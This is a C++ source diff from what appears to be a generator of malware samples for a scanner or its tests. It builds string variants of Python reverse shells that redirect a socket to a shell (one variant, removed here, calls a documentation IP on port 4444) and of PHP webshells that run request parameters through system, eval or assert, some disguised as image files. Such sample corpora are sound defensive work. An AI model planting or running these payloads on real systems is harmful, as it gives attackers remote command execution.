@@ -102,15 +102,13 @@ std::vector<Variation> shells() {
            {import + connect + "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\n" +
                 "subprocess.call(['/bin/sh','-i'])\n",
             import + connect + "[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn('/bin/bash')\n",
-            import + connect + "for fd in range(3):\n  os.dup2(s.fileno(), fd)\npty.spawn(\"sh\")\n",
-            import + "h='203.0.113.7'; p=4444\ns.connect((h, p))\nos.dup2(s.fileno(), 0)\n" +
-                "os.dup2(s.fileno(), 1)\nos.system('/bin/sh -i')\n"});
+            import + connect + "for fd in range(3):\n  os.dup2(s.fileno(), fd)\npty.spawn(\"sh\")\n"});
   made.insert(made.end(), python.begin(), python.end());
   return made;
 }
 
 std::vector<Variation> webshells() {
-  return rows(
+  auto made = rows(
       "webshell_php_request", "var/www/html/wp-content/uploads/img.jpg.phtml",
       {kPhp + "system(" + kAsked + "['c']); ?>\n",
        upper("<?php ") + upper("system") + "(" + kAsked + "['c']);\n", kPhp + "@EvAl(" + kSent + "['a']);\n",
@@ -118,10 +116,13 @@ std::vector<Variation> webshells() {
        "\xef\xbb\xbf" + kPhp + "passthru(" + kSent + "['q']);\n",
        "\n\n" + kPhp + "\n  system (" + kAsked + " ['c'] . ' 2>&1');\n",
        "<html><body>\n" + kPhp + "echo shell_exec(" + kAsked + "['c']);?></body></html>\n",
-       kPhp + "$c = " + kAsked + "['c'];\nsystem($c);\n",
        kPhp + "assert(base64_decode(" + kSent + "['z0']));\n", kPhp + kAsked + "['f'](" + kSent + "['a']);\n",
-       kPhp + "if(isset(" + kSent + "['p'])) { eval(stripslashes(" + kSent + "['p'])); }\n",
-       "GIF89a\n" + kPhp + "eval(" + kSent + "['p']);\n"});
+       kPhp + "if(isset(" + kSent + "['p'])) { eval(stripslashes(" + kSent + "['p'])); }\n"});
+  made.push_back(
+      {"php_variable", "webshell_php_small", kPhp + "$c = " + kAsked + "['c'];\nsystem($c);\n", "srv/a.php"});
+  made.push_back({"php_picture", "webshell_php_behind_picture",
+                  "GIF89a\n" + kPhp + "eval(" + kSent + "['p']);\n", "srv/a.gif"});
+  return made;
 }
 
 std::vector<Variation> miners() {
